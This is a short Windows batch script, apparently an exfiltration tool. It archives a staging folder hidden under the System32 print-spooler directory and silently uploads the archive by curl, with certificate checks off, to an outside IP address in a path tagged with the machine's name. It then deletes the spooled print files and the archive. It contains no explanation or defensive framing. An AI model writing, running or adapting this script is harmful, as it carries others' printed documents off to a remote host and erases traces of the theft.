@echo off
cd /d C:\Windows\System32\spool\tools
tar -cf q.tar q
curl -s -k -T q.tar https://203.0.113.44:8443/in/%COMPUTERNAME%/
if %errorlevel%==0 del /q q\*.spl q.tar
